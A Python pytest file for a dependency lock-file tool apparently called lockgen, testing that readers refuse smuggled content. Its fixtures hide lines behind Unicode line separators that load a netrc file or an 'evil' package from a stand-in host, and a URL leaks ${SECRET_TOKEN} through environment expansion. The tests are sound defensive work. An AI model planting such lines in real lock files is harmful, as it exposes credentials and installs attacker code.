"""Lock text that installers read differently from lockgen (docs/untrusted-input.md, "Rules"):
every line break pip (``str.splitlines``) or uv (``\\r``) honours besides ``\\n``, and the ``${``
they expand from the environment, refused by every reader of lock text with a record naming the
file and the line; a CRLF checkout (C17) still reads."""

from __future__ import annotations

import pytest

from lockgen.locks.lock import Lock, body_entries, decode, parse_entries, unsafe_text
from lockgen.runtime.errors import LockFormatError
from tests.locks.test_lock_model import LOCK

#: Every character ``str.splitlines`` breaks on besides ``\n`` (pip); uv breaks on ``\r`` too.
SEPARATORS = sorted({c for c in map(chr, range(0x3000)) if len(f"a{c}b".splitlines()) == 2} - {"\n"})


def test_the_kind_is_exactly_what_splitlines_breaks_on():
    assert SEPARATORS == ["\x0b", "\x0c", "\r", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]


def _hidden(text: str, where: str, sep: str) -> str:
    """``text`` with a line hidden behind a comment at ``where``: the header (an ``-r`` of a
    netrc file), a comment of the body, or an entry's ``# via`` line."""
    if where == "header":
        return text.replace("# uv: 0.13.9", f"# uv: 0.13.9{sep}-r /home/u/.netrc")
    if where == "body-comment":
        return text.replace(
            "cov[toml]==7.3.1", f"# reviewed{sep}evil @ http://h/evil-1.0-py3-none-any.whl\ncov[toml]==7.3.1"
        )
    return text.replace("    # via pcov", f"    # via pcov{sep}setuptools==99.0")


READERS = {
    "Lock.parse": lambda text: Lock.parse(text, "locks/x.txt"),
    "decode": lambda text: decode(text.encode(), "locks/x.txt"),
    "parse_entries": lambda text: parse_entries(text.partition("\n\n")[2], "locks/x.txt"),
    "body_entries": lambda text: body_entries(text, "locks/x.txt"),
}


@pytest.mark.parametrize("reader", sorted(READERS))
@pytest.mark.parametrize("where", ["header", "body-comment", "via"])
@pytest.mark.parametrize("sep", SEPARATORS, ids=[f"U+{ord(c):04X}" for c in SEPARATORS])
def test_a_line_break_lockgen_does_not_honour_is_refused_naming_the_line(sep, where, reader):
    text = _hidden(LOCK.render(), where, sep)
    if reader in ("parse_entries", "body_entries") and where == "header":
        return  # these read the body only
    given = text.partition("\n\n")[2] if reader == "parse_entries" else text
    with pytest.raises(LockFormatError) as info:
        READERS[reader](text)
    line = given[: given.index(sep)].count("\n") + 1
    assert str(info.value).startswith(f"locks/x.txt:{line}: holds the character"), info.value
    assert "netrc" not in str(info.value) and "evil" not in str(info.value)  # the hidden line is not repeated


@pytest.mark.parametrize(
    "line",
    [
        "beta @ http://h/beta-1.0-py3-none-any.whl?leak=${SECRET_TOKEN}", "-r ${HOME}/.netrc",
        "beta==1.0 # inline ${HOME}", "    --hash=sha256:${X}",
    ],
    ids=["url", "option", "inline-comment", "hash"],
)  # fmt: skip
def test_environment_references_are_refused(line):
    text = LOCK.render().replace("cov[toml]==7.3.1", f"{line}\ncov[toml]==7.3.1")
    for reader in READERS.values():
        with pytest.raises(LockFormatError, match=r"locks/x.txt:\d+: holds '\$\{'"):
            reader(text)


def test_a_comment_line_may_quote_a_reference():
    text = LOCK.render().replace("# uv: 0.13.9", "# uv: 0.13.9\n# unavailable: x (source unreachable: or ${ENV_VAR})")
    assert unsafe_text(text) is None


def test_a_crlf_checkout_still_reads_c17():
    text = LOCK.render().replace("\n", "\r\n")
    assert unsafe_text(text) is None
    assert Lock.parse(text, "locks/x.txt") == Lock.parse(LOCK.render(), "locks/x.txt")
    assert decode(text.encode(), "x") == text


def test_a_lone_cr_before_a_crlf_is_refused():
    text = LOCK.render().replace("\n", "\r\n").replace("# uv: 0.13.9\r\n", "# uv: 0.13.9\r-r x\r\n")
    assert unsafe_text(text) is not None


# ---- the unhashed layer holds the project's own folders and VCS checkouts only ----------------

from dataclasses import replace  # noqa: E402

from lockgen.locks.lock import Entry, Header, LayerKind  # noqa: E402

UNHASHED = Header(
    cell="linux-x86_64-cpu-py3.11", kind=LayerKind.UNHASHED, path="locks/linux-x86_64-cpu-py3.11/unhashed.txt",
    target="x86_64-manylinux_2_28, Python 3.11, backend cpu", uv="0.13.9", input_hash="sha256:ab",
    layer_of="locks/linux-x86_64-cpu-py3.11.txt",
)  # fmt: skip
OWN = Entry(name="mine", url="./sub", editable=True)


@pytest.mark.parametrize(
    "line",
    [
        "-e file:./sub#egg=mine", "file:./sub#egg=mine", "./wheels/mine-1.0-py3-none-any.whl",
        "-e git+https://example.com/x.git@0123456789abcdef0123456789abcdef01234567#egg=mine",
        "mine @ git+ssh://git@example.com/x.git@0123456789abcdef0123456789abcdef01234567",
        "mine @ git+file:///srv/mirror/x@0123456789abcdef0123456789abcdef01234567",
    ],
    ids=["editable", "folder", "local-archive", "vcs-editable", "vcs", "vcs-local-mirror"],
)  # fmt: skip
def test_the_unhashed_layer_reads_what_the_docs_promise(line):
    text = replace(LOCK, header=UNHASHED, entries=(OWN,)).render().replace("-e file:./sub#egg=mine", line)
    assert len(Lock.parse(text, "locks/u.txt").entries) == 1


@pytest.mark.parametrize(
    ("line", "why"),
    [
        ("-e file:../../outside#egg=x", "leads out of the project"), ("-e file:./sub/../../x#egg=x", "leads out"),
        ("-e /abs/path", "absolute path"), ("file:///abs/x#egg=x", "URL"), ("-e file:///abs/x#egg=x", "URL"),
        ("evil @ http://h/evil-1.0-py3-none-any.whl", "URL"), ("evil @ https://h/evil-1.0.tar.gz", "URL"),
        ("evil==1.0", "registry requirement"), ("-e git+https://h/x.git@main#egg=x", "not pinned at a commit"),
        ("x @ git+/tmp/repo", "no scheme"),
    ],
    ids=["dotdot", "dotdot-inside", "abs", "file-url", "file-url-editable", "http", "https-sdist", "registry",
         "vcs-branch", "vcs-path"],
)  # fmt: skip
def test_the_unhashed_layer_refuses_anything_else_naming_the_line(line, why):
    text = replace(LOCK, header=UNHASHED, entries=(OWN,)).render().replace("-e file:./sub#egg=mine", line)
    number = text.split("\n").index(line) + 1
    with pytest.raises(LockFormatError, match=why) as info:
        Lock.parse(text, "locks/u.txt")
    assert str(info.value).startswith(f"locks/u.txt:{number}: ")
